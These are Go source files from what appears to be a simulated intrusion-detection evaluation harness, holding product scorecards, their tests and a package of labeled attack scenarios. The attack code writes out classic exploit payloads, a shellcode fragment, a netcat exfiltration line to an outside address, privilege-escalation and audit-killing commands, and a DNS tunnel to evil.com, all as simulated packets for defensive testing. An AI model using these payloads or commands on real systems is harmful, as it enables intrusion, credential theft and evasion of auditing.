			obs("effectiveness-of-generated-filters", 2, a, "coarse rate limits"),
			obs("evidence-collection", 3, a, "flow records retained"),
			obs("information-sharing", 2, a, "flow export"),
			obs("notification-user-alerts", 2, a, "console and SNMP"),
			obs("program-interaction", 2, a, "response script hooks"),
			obs("session-recording-playback", 2, a, "flow replay, not payload"),
			obs("threat-correlation", 4, a, "pool-wide correlation engine"),
			obs("trend-analysis", 4, a, "baseline drift is a first-class view"),
		},
	}
}

// AgentSwarm is the AAFID-class research prototype: autonomous hybrid
// agents on every host, free and inspectable, with a thin monitor and no
// management console.
func AgentSwarm() Spec {
	a, o, both := core.ByAnalysis, core.ByOpenSource, core.ByAnalysis|core.ByOpenSource
	return Spec{
		Name: "AgentSwarm", Version: "0.9",
		Summary: "research prototype: autonomous host-based hybrid agents",
		IDS: ids.Config{
			Sensors:  3,
			Balancer: ids.BalancerFlowHash,
			Engine: func() detect.Engine {
				return detect.NewHybridEngine(
					detect.NewStandardSignatureEngine(), detect.NewAnomalyEngine(), detect.HybridParallel)
			},
			SensorQueue: 512, LethalDropsPerSec: 1500, SensorSpeedFactor: 0.3,
			FailureMode:       ids.FailCrash, // no restart: research fragility
			HasConsole:        false,
			CorrelationWindow: 5 * time.Second,
		},
		HostAgents:     true,
		HostAgentLevel: hostmon.LogC2,
		Static: []core.Observation{
			obs(core.MDistributedManagement, 1, both, "per-agent config files, no secure remote admin"),
			obs(core.MEaseOfConfiguration, 1, a, "hand-edited agent hierarchies"),
			obs(core.MEaseOfPolicyMaint, 1, a, "policy scattered across agents"),
			obs(core.MLicenseManagement, 4, o, "research license, free"),
			obs(core.MOutsourcedSolution, 4, o, "fully self-hosted"),
			obs(core.MPlatformRequirements, 1, both, "C2-level audit agents on every host"),
			obs("quality-of-documentation", 2, o, "papers and a thesis"),
			obs("ease-of-attack-filter-generation", 3, a, "agents are source; new detectors are code"),
			obs("evaluation-copy-availability", 4, o, "source freely downloadable"),
			obs("level-of-administration", 1, a, "constant research-grade care"),
			obs("product-lifetime", 1, o, "research project, no support horizon"),
			obs("quality-of-technical-support", 1, o, "mailing list best-effort"),
			obs("three-year-cost", 4, o, "free software; staff time only"),
			obs("training-support", 0, o, "none"),
			obs(core.MDataPoolSelectability, 2, a, "per-agent source selection"),
			obs(core.MHostBased, 4, both, "audit trails are the primary input"),
			obs(core.MNetworkBased, 2, both, "per-host network taps only"),
			obs(core.MMultiSensorSupport, 3, a, "agent hierarchy aggregates transceivers"),
			obs("anomaly-based", 3, both, "per-host behaviour models"),
			obs("signature-based", 3, both, "pattern detectors included"),
			obs("autonomous-learning", 2, a, "agents adapt thresholds"),
			obs("host-os-security", 1, a, "agents run unprivileged, unhardened"),
			obs("interoperability", 1, a, "research formats only"),
			obs("package-contents", 1, o, "source tarball"),
			obs("process-security", 1, a, "agents die silently"),
			obs("visibility", 2, a, "agents visible in process tables"),
			obs("analysis-of-intruder-intent", 3, a, "host context gives rich narratives"),
			obs("clarity-of-reports", 1, a, "research log output"),
			obs("effectiveness-of-generated-filters", 0, a, "no response path"),
			obs("evidence-collection", 3, a, "C2 audit trails retained"),
			obs("information-sharing", 2, a, "agent-to-agent messaging"),
			obs("notification-user-alerts", 1, a, "monitor UI only"),
			obs("program-interaction", 2, a, "scriptable agents"),
			obs("session-recording-playback", 1, a, "audit replay only"),
			obs("threat-correlation", 3, a, "hierarchical agent correlation"),
			obs("trend-analysis", 1, a, "none built in"),
		},
	}
}

// NetRecorder51 is the vendor's point release of NetRecorder: the same
// architecture with the updated signature set (notably the DNS-tunnel
// oversize heuristic). It exists for the continual-re-evaluation
// workflow the paper's Section 4 calls for — rerunning the same
// scorecard against the updated product.
func NetRecorder51() Spec {
	s := NetRecorder()
	s.Version = "5.1"
	s.IDS.Engine = func() detect.Engine { return detect.NewUpdatedSignatureEngine() }
	return s
}

// All returns the evaluated field in the paper's order: the three
// commercial products, then the research system.
func All() []Spec {
	return []Spec{NetRecorder(), TrueSecure(), StreamHunter(), AgentSwarm()}
}

// Commercial returns just the three commercial products.
func Commercial() []Spec {
	return []Spec{NetRecorder(), TrueSecure(), StreamHunter()}
}

// Find resolves a product by name, case-insensitively. An optional
// ":version" suffix selects a specific release ("netrecorder:5.1");
// without one the current release in All() is returned.
func Find(name string) (Spec, bool) {
	want := strings.ToLower(name)
	versioned := append(All(), NetRecorder51())
	// Exact name:version match first.
	for _, s := range versioned {
		if want == strings.ToLower(s.Name)+":"+s.Version {
			return s, true
		}
	}
	for _, s := range All() {
		if want == strings.ToLower(s.Name) {
			return s, true
		}
	}
	return Spec{}, false
}
