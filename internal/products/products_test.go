package products

import (
	"testing"

	"repro/internal/core"
	"repro/internal/detect"
	"repro/internal/ids"
	"repro/internal/simtime"
)

func TestAllProductsInstantiate(t *testing.T) {
	for _, spec := range All() {
		sim := simtime.New(1)
		inst, err := spec.Instantiate(sim)
		if err != nil {
			t.Fatalf("%s: %v", spec.Name, err)
		}
		if inst.Name() != spec.Name {
			t.Fatalf("%s: instance named %q", spec.Name, inst.Name())
		}
		if len(inst.Sensors()) != spec.IDS.Sensors {
			t.Fatalf("%s: %d sensors, want %d", spec.Name, len(inst.Sensors()), spec.IDS.Sensors)
		}
		hasConsole := inst.Console() != nil
		if hasConsole != spec.IDS.HasConsole {
			t.Fatalf("%s: console presence %v, want %v", spec.Name, hasConsole, spec.IDS.HasConsole)
		}
	}
}

func TestFieldCoversPaperLineup(t *testing.T) {
	all := All()
	if len(all) != 4 {
		t.Fatalf("%d products, want 4 (three commercial + research)", len(all))
	}
	if len(Commercial()) != 3 {
		t.Fatal("Commercial() must return three products")
	}
	names := map[string]bool{}
	for _, s := range all {
		names[s.Name] = true
	}
	for _, want := range []string{"NetRecorder", "TrueSecure", "StreamHunter", "AgentSwarm"} {
		if !names[want] {
			t.Fatalf("missing product %s", want)
		}
	}
}

func TestStaticScoresApplyCleanly(t *testing.T) {
	reg := core.StandardRegistry()
	for _, spec := range All() {
		card := core.NewScorecard(reg, spec.Name, spec.Version)
		if err := spec.ApplyStatic(card); err != nil {
			t.Fatalf("%s: %v", spec.Name, err)
		}
		// Statics must cover every logistical metric...
		for _, m := range reg.ByClass(core.Logistical) {
			if _, ok := card.Get(m.ID); !ok {
				t.Fatalf("%s: logistical metric %q unscored", spec.Name, m.ID)
			}
		}
		// ...and every untabled metric of the other classes.
		for _, m := range reg.All() {
			if m.Class != core.Logistical && !m.InPaperTable {
				if _, ok := card.Get(m.ID); !ok {
					t.Fatalf("%s: untabled metric %q unscored", spec.Name, m.ID)
				}
			}
		}
	}
}

// measuredByHarness lists the metrics the eval package fills; statics
// must NOT pre-fill them.
var measuredByHarness = []string{
	core.MAdjustableSensitivity, core.MDataStorage,
	core.MScalableLoadBalancing, core.MSystemThroughput,
	core.MAnalysisOfCompromise, core.MErrorReporting, core.MFirewallInteraction,
	core.MInducedLatency, core.MZeroLossThroughput, core.MNetworkLethalDose,
	core.MObservedFNRatio, core.MObservedFPRatio, core.MOperationalImpact,
	core.MRouterInteraction, core.MSNMPInteraction, core.MTimeliness,
}

func TestStaticScoresLeaveMeasuredMetricsOpen(t *testing.T) {
	reg := core.StandardRegistry()
	for _, spec := range All() {
		card := core.NewScorecard(reg, spec.Name, spec.Version)
		if err := spec.ApplyStatic(card); err != nil {
			t.Fatal(err)
		}
		for _, id := range measuredByHarness {
			if _, ok := card.Get(id); ok {
				t.Fatalf("%s: metric %q is harness-measured but statically scored", spec.Name, id)
			}
		}
		// Statics + harness metrics = complete coverage.
		missing := card.Missing()
		if len(missing) != len(measuredByHarness) {
			t.Fatalf("%s: %d metrics missing after statics, want exactly the %d measured ones: %v",
				spec.Name, len(missing), len(measuredByHarness), missing)
		}
	}
}

func TestProductsAreCharacteristicallyDifferent(t *testing.T) {
	// The scorecard methodology requires metrics that "clearly
	// differentiate between otherwise similar systems"; the product field
	// must actually differ on key axes.
	specs := All()
	balancers := map[ids.BalancerKind]bool{}
	mechanisms := map[detect.Mechanism]bool{}
	failureModes := map[ids.FailureMode]bool{}
	for _, s := range specs {
		balancers[s.IDS.Balancer] = true
		failureModes[s.IDS.FailureMode] = true
		mechanisms[s.IDS.Engine().Mechanism()] = true
	}
	if len(balancers) < 3 {
		t.Fatalf("only %d balancer disciplines across the field", len(balancers))
	}
	if len(mechanisms) != 3 {
		t.Fatalf("field covers %d mechanisms, want signature+anomaly+hybrid", len(mechanisms))
	}
	if len(failureModes) < 2 {
		t.Fatal("field has uniform failure behaviour")
	}
	hostAgents := 0
	for _, s := range specs {
		if s.HostAgents {
			hostAgents++
		}
	}
	if hostAgents == 0 || hostAgents == len(specs) {
		t.Fatal("host-agent support must differentiate the field")
	}
}

func TestStaticScoresDifferentiate(t *testing.T) {
	// For each logistical metric at least two products must disagree —
	// otherwise the metric isn't "characteristic" for this field.
	reg := core.StandardRegistry()
	cards := map[string]*core.Scorecard{}
	for _, spec := range All() {
		card := core.NewScorecard(reg, spec.Name, spec.Version)
		if err := spec.ApplyStatic(card); err != nil {
			t.Fatal(err)
		}
		cards[spec.Name] = card
	}
	uniform := 0
	for _, m := range reg.ByClass(core.Logistical) {
		scores := map[core.Score]bool{}
		for _, card := range cards {
			if o, ok := card.Get(m.ID); ok {
				scores[o.Score] = true
			}
		}
		if len(scores) == 1 {
			uniform++
		}
	}
	if uniform > 2 {
		t.Fatalf("%d logistical metrics score identically across the whole field", uniform)
	}
}

func TestResponsePoliciesWire(t *testing.T) {
	sim := simtime.New(1)
	spec := TrueSecure()
	inst, err := spec.Instantiate(sim)
	if err != nil {
		t.Fatal(err)
	}
	if inst.Console() == nil {
		t.Fatal("TrueSecure needs a console")
	}
	if inst.Console().Policy["exploit"] != ids.ActionFirewallBlock {
		t.Fatal("response policy not applied")
	}
	// AgentSwarm has no console; instantiation must still succeed.
	if _, err := AgentSwarm().Instantiate(simtime.New(1)); err != nil {
		t.Fatal(err)
	}
}

func TestNetRecorder51IsAPointRelease(t *testing.T) {
	v50, v51 := NetRecorder(), NetRecorder51()
	if v51.Version != "5.1" || v51.Name != v50.Name {
		t.Fatalf("point release identity wrong: %s %s", v51.Name, v51.Version)
	}
	// Same architecture...
	if v51.IDS.Sensors != v50.IDS.Sensors || v51.IDS.Balancer != v50.IDS.Balancer ||
		v51.IDS.FailureMode != v50.IDS.FailureMode {
		t.Fatal("point release changed the architecture")
	}
	// ...different engine build.
	e50 := v50.IDS.Engine().(*detect.SignatureEngine)
	e51 := v51.IDS.Engine().(*detect.SignatureEngine)
	if !e50.Reassembling() || !e51.Reassembling() {
		t.Fatal("both releases should reassemble")
	}
	if _, err := v51.Instantiate(simtime.New(1)); err != nil {
		t.Fatal(err)
	}
}

func TestFindProducts(t *testing.T) {
	if _, ok := Find("netrecorder"); !ok {
		t.Fatal("case-insensitive lookup failed")
	}
	if s, ok := Find("NetRecorder:5.1"); !ok || s.Version != "5.1" {
		t.Fatalf("versioned lookup = %+v, %v", s, ok)
	}
	if s, ok := Find("netrecorder:5.0"); !ok || s.Version != "5.0" {
		t.Fatalf("5.0 lookup = %+v, %v", s, ok)
	}
	if _, ok := Find("nonesuch"); ok {
		t.Fatal("unknown product found")
	}
}
