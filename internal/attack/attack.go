// Package attack implements the labeled attack scenarios the evaluation
// replays over background traffic. The paper's second lesson learned is
// that the observed false-negative ratio can only be measured by
// "replaying canned data with known attack content": every packet a
// scenario emits carries ground-truth labels (packet.Label) that the
// measurement harness — and only the harness — consults when scoring
// detections against Figure 3's definitions.
//
// The library covers the threat catalogue of Section 2: external attacks
// (scan, flood, exploit, tunneling in through "benign" protocols) and
// insider threats (misuse of credentials, masquerade from a compromised
// trusted host).
package attack

import (
	"fmt"
	"math/rand"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
	"repro/internal/traffic"
)

// Technique names. Detectors key their signatures and anomaly models to
// behaviour, never to these strings; the harness keys scoring to them.
const (
	TechPortScan   = "portscan"
	TechSYNFlood   = "synflood"
	TechBruteForce = "bruteforce"
	TechExploit    = "exploit"
	TechInsider    = "insider-misuse"
	TechMasquerade = "masquerade"
	TechTunnel     = "dns-tunnel"
)

// Context provides a scenario everything it needs to emit traffic.
type Context struct {
	Sim *simtime.Sim
	Rng *rand.Rand
	Seq *packet.SeqCounter
	// Emit delivers each packet at its send time, like traffic.Emit.
	Emit traffic.Emit
	// Eps lists candidate endpoints.
	Eps traffic.Endpoints
	// Gen, when set, lets session-shaped attacks reuse the background
	// generator's TCP framing so malicious sessions are indistinguishable
	// in transport shape from benign ones.
	Gen *traffic.Generator
}

// send stamps, labels, and schedules one raw packet after delay.
func (c *Context) send(delay time.Duration, p *packet.Packet, truth packet.Label) {
	p.Seq = c.Seq.Next()
	p.Truth = truth
	if p.TTL == 0 {
		p.TTL = 64
	}
	c.Sim.MustSchedule(delay, func() { c.Emit(p) })
}

// Incident is the ground-truth record of one launched attack instance.
type Incident struct {
	ID        string
	Technique string
	Start     time.Duration
	// Duration is the scenario's planned active window.
	Duration time.Duration
	// Packets is how many labeled packets the scenario emitted.
	Packets int
	// Attacker and Victim record the principal endpoints.
	Attacker, Victim packet.Addr
}

// Scenario is one attack playbook.
type Scenario interface {
	// Technique returns the technique constant the scenario implements.
	Technique() string
	// Launch schedules the attack's packets starting at the current
	// virtual time and returns the ground-truth incident record.
	Launch(c *Context, id string) Incident
}

// Intensity scales a scenario's volume; 1.0 is the paper-testbed default.
type Intensity float64

// label builds the ground-truth label for an incident.
func label(id, technique string) packet.Label {
	return packet.Label{Malicious: true, AttackID: id, Technique: technique}
}

// pickExternal selects an attacker host on the Internet side.
func (c *Context) pickExternal() packet.Addr {
	return c.Eps.External[c.Rng.Intn(len(c.Eps.External))]
}

// pickCluster selects a victim (or compromised) host on the LAN.
func (c *Context) pickCluster() packet.Addr {
	return c.Eps.Cluster[c.Rng.Intn(len(c.Eps.Cluster))]
}

// PortScan probes a spread of TCP ports on one victim with bare SYNs.
// The detectable behaviour is many distinct destination ports from one
// source in a short window.
type PortScan struct {
	// Ports is how many distinct ports to probe (default 120·intensity).
	Ports int
	// Interval is the gap between probes (default 8ms).
	Interval time.Duration
	// Stealth stretches the probe interval past typical threshold-rule
	// windows (default 3s between probes), evading sliding-window
	// counters at the price of a much longer scan.
	Stealth  bool
	Strength Intensity
}

// Technique implements Scenario.
func (a PortScan) Technique() string { return TechPortScan }

// Launch implements Scenario.
func (a PortScan) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	ports := a.Ports
	if ports == 0 {
		ports = int(120 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 8 * time.Millisecond
		if a.Stealth {
			interval = 3 * time.Second
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechPortScan)
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	for i := 0; i < ports; i++ {
		p := &packet.Packet{
			Src: attacker, Dst: victim,
			SrcPort: srcPort, DstPort: uint16(1 + c.Rng.Intn(1024)),
			Proto: packet.ProtoTCP, Flags: packet.SYN,
		}
		c.send(at, p, truth)
		at += interval
	}
	return Incident{
		ID: id, Technique: TechPortScan, Start: c.Sim.Now(),
		Duration: at, Packets: ports, Attacker: attacker, Victim: victim,
	}
}

// SYNFlood directs a high-rate stream of SYNs with rotating spoofed
// source ports at one service, attempting resource exhaustion. The
// detectable behaviour is the SYN rate with no completed handshakes.
type SYNFlood struct {
	// Pps is the flood rate (default 4000·intensity).
	Pps float64
	// Duration is the flood window (default 2s).
	Duration time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a SYNFlood) Technique() string { return TechSYNFlood }

// Launch implements Scenario.
func (a SYNFlood) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	pps := a.Pps
	if pps == 0 {
		pps = 4000 * float64(strength)
	}
	dur := a.Duration
	if dur == 0 {
		dur = 2 * time.Second
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechSYNFlood)
	n := int(pps * dur.Seconds())
	gap := time.Duration(float64(time.Second) / pps)
	for i := 0; i < n; i++ {
		p := &packet.Packet{
			Src: attacker, Dst: victim,
			SrcPort: uint16(1024 + c.Rng.Intn(64000)), DstPort: 80,
			Proto: packet.ProtoTCP, Flags: packet.SYN,
		}
		c.send(time.Duration(i)*gap, p, truth)
	}
	return Incident{
		ID: id, Technique: TechSYNFlood, Start: c.Sim.Now(),
		Duration: dur, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// passwordGuesses is the dictionary the brute-force scenario walks.
var passwordGuesses = []string{
	"root", "password", "123456", "admin", "letmein", "qwerty",
	"toor", "changeme", "secret", "dragon", "master", "shadow",
}

// BruteForce replays rapid failed logins against the interactive service.
// Detectable by signature ("login incorrect" repetition) and by anomaly
// (attempt rate).
type BruteForce struct {
	// Attempts is the number of login attempts (default 40·intensity).
	Attempts int
	// Interval is the gap between attempts (default 150ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a BruteForce) Technique() string { return TechBruteForce }

// Launch implements Scenario.
func (a BruteForce) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	attempts := a.Attempts
	if attempts == 0 {
		attempts = int(40 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 150 * time.Millisecond
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechBruteForce)
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	n := 0
	emitTCP := func(fromAttacker bool, flags packet.TCPFlags, payload []byte) {
		p := &packet.Packet{Proto: packet.ProtoTCP, Flags: flags, Payload: payload}
		if fromAttacker {
			p.Src, p.Dst, p.SrcPort, p.DstPort = attacker, victim, srcPort, 23
		} else {
			p.Src, p.Dst, p.SrcPort, p.DstPort = victim, attacker, 23, srcPort
		}
		c.send(at, p, truth)
		n++
	}
	emitTCP(true, packet.SYN, nil)
	at += time.Millisecond
	emitTCP(false, packet.SYN|packet.ACK, nil)
	at += time.Millisecond
	emitTCP(true, packet.ACK, nil)
	for i := 0; i < attempts; i++ {
		at += interval
		guess := passwordGuesses[i%len(passwordGuesses)]
		emitTCP(true, packet.ACK|packet.PSH, []byte(fmt.Sprintf("login: root\r\npassword: %s\r\n", guess)))
		at += 20 * time.Millisecond
		emitTCP(false, packet.ACK|packet.PSH, []byte("Login incorrect\r\nlogin: "))
	}
	at += time.Millisecond
	emitTCP(true, packet.FIN|packet.ACK, nil)
	return Incident{
		ID: id, Technique: TechBruteForce, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// exploitPayloads are the known-attack byte patterns the signature
// corpus in internal/detect also knows about. They model the classic
// 2001-era exploit traffic the evaluated products shipped signatures for.
var exploitPayloads = [][]byte{
	[]byte("GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n"),
	[]byte("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n"),
	[]byte("GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n\r\n"),
	append(append([]byte("USER "), bytesRepeat(0x90, 220)...), []byte("\xeb\x1f\x5e\x89\x76\x08/bin/sh")...),
	[]byte("site exec %p%p%p%p%p%p%p%p|%n"),
	[]byte("GET /../../../../etc/shadow HTTP/1.0\r\n\r\n"),
}

func bytesRepeat(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

// Exploit delivers known-signature exploit payloads inside otherwise
// normal-looking sessions, one per chosen victim. Detectable by any
// signature engine carrying the corpus; invisible to pure header
// analysis (this is the scenario behind the paper's Lesson 1).
type Exploit struct {
	// Count is how many exploit deliveries to attempt (default 3·intensity).
	Count int
	// Evasive splits each exploit payload into tiny TCP segments so no
	// single packet contains a complete signature — the classic
	// Ptacek–Newsham fragmentation evasion. Per-packet content scanners
	// miss it; stream-reassembling scanners do not.
	Evasive  bool
	Strength Intensity
}

// Technique implements Scenario.
func (a Exploit) Technique() string { return TechExploit }

// Launch implements Scenario.
func (a Exploit) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	count := a.Count
	if count == 0 {
		count = int(3 * float64(strength))
		if count < 1 {
			count = 1
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechExploit)
	at := time.Duration(0)
	n := 0
	srcPortBase := uint16(2000 + c.Rng.Intn(30000))
	for i := 0; i < count; i++ {
		payload := exploitPayloads[c.Rng.Intn(len(exploitPayloads))]
		srcPort := srcPortBase + uint16(i)
		type step struct {
			flags   packet.TCPFlags
			payload []byte
			gap     time.Duration
		}
		seq := []step{
			{packet.SYN, nil, 0},
			{packet.ACK, nil, 2 * time.Millisecond},
		}
		if a.Evasive {
			// Fragment the signature across ~7-byte segments.
			const frag = 7
			for off := 0; off < len(payload); off += frag {
				end := off + frag
				if end > len(payload) {
					end = len(payload)
				}
				flags := packet.ACK
				if end == len(payload) {
					flags |= packet.PSH
				}
				seq = append(seq, step{flags, payload[off:end], time.Millisecond})
			}
		} else {
			seq = append(seq, step{packet.ACK | packet.PSH, payload, 5 * time.Millisecond})
		}
		seq = append(seq, step{packet.FIN | packet.ACK, nil, 30 * time.Millisecond})
		for _, s := range seq {
			at += s.gap
			p := &packet.Packet{
				Src: attacker, Dst: victim, SrcPort: srcPort, DstPort: 80,
				Proto: packet.ProtoTCP, Flags: s.flags, Payload: s.payload,
			}
			c.send(at, p, truth)
			n++
		}
		at += time.Duration(200+c.Rng.Intn(400)) * time.Millisecond
	}
	return Incident{
		ID: id, Technique: TechExploit, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// Insider models a compromised or malicious cluster host pulling
// sensitive files over the trusted LAN: east-west interactive traffic to
// a service the cluster profile never uses, with credential-theft
// payloads. The paper singles this threat out: "when one host is
// compromised, other systems that trust it may be very easily
// compromised in ways that may look like normal interactions".
type Insider struct {
	// Transfers is the number of illicit pulls (default 6·intensity).
	Transfers int
	Strength  Intensity
}

// Technique implements Scenario.
func (a Insider) Technique() string { return TechInsider }

// Launch implements Scenario.
func (a Insider) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	transfers := a.Transfers
	if transfers == 0 {
		transfers = int(6 * float64(strength))
		if transfers < 1 {
			transfers = 1
		}
	}
	compromised := c.pickCluster()
	victim := c.pickCluster()
	for victim == compromised && len(c.Eps.Cluster) > 1 {
		victim = c.pickCluster()
	}
	truth := label(id, TechInsider)
	cmds := []string{
		"cat /etc/shadow", "scp /secure/keys.tar ext:/tmp",
		"dd if=/dev/sda of=/tmp/disk.img", "cat /secure/missionplan.dat",
		"tar cf - /var/spool/cron | nc 203.0.1.9 9999",
	}
	at := time.Duration(0)
	n := 0
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	for i := 0; i < transfers; i++ {
		cmd := cmds[c.Rng.Intn(len(cmds))]
		p := &packet.Packet{
			Src: compromised, Dst: victim, SrcPort: srcPort, DstPort: 514, // rsh-style trusted service
			Proto: packet.ProtoTCP, Flags: packet.ACK | packet.PSH,
			Payload: []byte(cmd + "\n"),
		}
		c.send(at, p, truth)
		n++
		at += 10 * time.Millisecond
		resp := &packet.Packet{
			Src: victim, Dst: compromised, SrcPort: 514, DstPort: srcPort,
			Proto: packet.ProtoTCP, Flags: packet.ACK | packet.PSH,
			Payload: traffic.BulkChunk(c.Rng, 2048+c.Rng.Intn(4096)),
		}
		c.send(at, resp, truth)
		n++
		at += time.Duration(300+c.Rng.Intn(700)) * time.Millisecond
	}
	return Incident{
		ID: id, Technique: TechInsider, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: compromised, Victim: victim,
	}
}

// Masquerade models an external attacker using stolen credentials to log
// in as a legitimate user, then issuing privilege-escalation commands.
// Transport-shape is a normal interactive session; only content and
// behaviour give it away.
type Masquerade struct {
	// Commands is how many post-login commands to run (default 8·intensity).
	Commands int
	Strength Intensity
}

// Technique implements Scenario.
func (a Masquerade) Technique() string { return TechMasquerade }

// Launch implements Scenario.
func (a Masquerade) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	commands := a.Commands
	if commands == 0 {
		commands = int(8 * float64(strength))
		if commands < 2 {
			commands = 2
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechMasquerade)
	escalation := []string{
		"su root\n", "chmod 4755 /tmp/.hidden/sh\n",
		"echo '+ +' > /.rhosts\n", "crontab -l | grep -v audit | crontab -\n",
		"kill -9 `pidof auditd`\n", "find / -perm -4000 -print\n",
		"cp /bin/sh /tmp/.X11-lock && chmod u+s /tmp/.X11-lock\n",
	}
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	n := 0
	emit := func(fromAttacker bool, flags packet.TCPFlags, payload []byte) {
		p := &packet.Packet{Proto: packet.ProtoTCP, Flags: flags, Payload: payload}
		if fromAttacker {
			p.Src, p.Dst, p.SrcPort, p.DstPort = attacker, victim, srcPort, 22
		} else {
			p.Src, p.Dst, p.SrcPort, p.DstPort = victim, attacker, 22, srcPort
		}
		c.send(at, p, truth)
		n++
	}
	emit(true, packet.SYN, nil)
	at += time.Millisecond
	emit(false, packet.SYN|packet.ACK, nil)
	at += time.Millisecond
	emit(true, packet.ACK, nil)
	at += 50 * time.Millisecond
	emit(true, packet.ACK|packet.PSH, []byte("login: operator\r\npassword: Tr0ub4dor\r\n"))
	at += 30 * time.Millisecond
	emit(false, packet.ACK|packet.PSH, []byte("Last login: from console\n$ "))
	for i := 0; i < commands; i++ {
		at += time.Duration(400+c.Rng.Intn(1200)) * time.Millisecond
		emit(true, packet.ACK|packet.PSH, []byte(escalation[i%len(escalation)]))
		at += 20 * time.Millisecond
		emit(false, packet.ACK|packet.PSH, traffic.InteractiveKeystrokes(c.Rng, false))
	}
	at += time.Millisecond
	emit(true, packet.FIN|packet.ACK, nil)
	return Incident{
		ID: id, Technique: TechMasquerade, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// DNSTunnel exfiltrates data through "benign" DNS: a stream of queries
// whose labels are long high-entropy encodings. Detectable by anomaly
// engines profiling DNS payload size/entropy; invisible to port-based
// filtering (Section 2: "tunneling in through benign protocols").
type DNSTunnel struct {
	// Queries is the number of exfil queries (default 80·intensity).
	Queries int
	// Interval is the gap between queries (default 25ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a DNSTunnel) Technique() string { return TechTunnel }

// Launch implements Scenario.
func (a DNSTunnel) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	queries := a.Queries
	if queries == 0 {
		queries = int(80 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 25 * time.Millisecond
	}
	inside := c.pickCluster()
	outside := c.pickExternal()
	truth := label(id, TechTunnel)
	const hexdigits = "0123456789abcdef"
	at := time.Duration(0)
	for i := 0; i < queries; i++ {
		// Encode a "chunk" as three long random hex labels.
		name := make([]byte, 0, 80)
		for l := 0; l < 3; l++ {
			lab := make([]byte, 20+c.Rng.Intn(12))
			for j := range lab {
				lab[j] = hexdigits[c.Rng.Intn(16)]
			}
			name = append(name, byte(len(lab)))
			name = append(name, lab...)
		}
		name = append(name, 4, 'e', 'v', 'i', 'l', 3, 'c', 'o', 'm', 0, 0, 16, 0, 1) // QTYPE=TXT
		hdr := make([]byte, 12)
		hdr[0], hdr[1] = byte(i>>8), byte(i)
		hdr[2] = 0x01
		hdr[5] = 1
		p := &packet.Packet{
			Src: inside, Dst: outside,
			SrcPort: uint16(1024 + c.Rng.Intn(60000)), DstPort: 53,
			Proto: packet.ProtoUDP, Payload: append(hdr, name...),
		}
		c.send(at, p, truth)
		at += interval
	}
	return Incident{
		ID: id, Technique: TechTunnel, Start: c.Sim.Now(),
		Duration: at, Packets: queries, Attacker: inside, Victim: outside,
	}
}

// StandardScenarios returns one instance of every scenario at the given
// intensity, in a fixed order.
func StandardScenarios(strength Intensity) []Scenario {
	return []Scenario{
		PortScan{Strength: strength},
		SYNFlood{Strength: strength},
		BruteForce{Strength: strength},
		Exploit{Strength: strength},
		Insider{Strength: strength},
		Masquerade{Strength: strength},
		DNSTunnel{Strength: strength},
	}
}

// TechPingSweep is the ICMP reconnaissance technique label.
const TechPingSweep = "pingsweep"

// PingSweep probes every cluster host with ICMP echo requests — the
// classic network-mapping reconnaissance that precedes targeted attacks.
// It is not part of StandardScenarios (the calibrated campaign) but is
// available to extended campaigns; the 5.1 signature update and anomaly
// engines can both see it.
type PingSweep struct {
	// Rounds is how many passes over the cluster to make (default
	// 3·intensity).
	Rounds int
	// Interval is the gap between probes (default 20ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a PingSweep) Technique() string { return TechPingSweep }

// Launch implements Scenario.
func (a PingSweep) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	rounds := a.Rounds
	if rounds == 0 {
		// A sweep that maps the network at all makes multiple passes;
		// the floor keeps low-intensity campaigns above detectors' noise
		// thresholds, as real sweeps are.
		rounds = int(3 * float64(strength))
		if rounds < 2 {
			rounds = 2
		}
	}
	interval := a.Interval
	if interval == 0 {
		interval = 20 * time.Millisecond
	}
	attacker := c.pickExternal()
	truth := label(id, TechPingSweep)
	at := time.Duration(0)
	n := 0
	for r := 0; r < rounds; r++ {
		for _, victim := range c.Eps.Cluster {
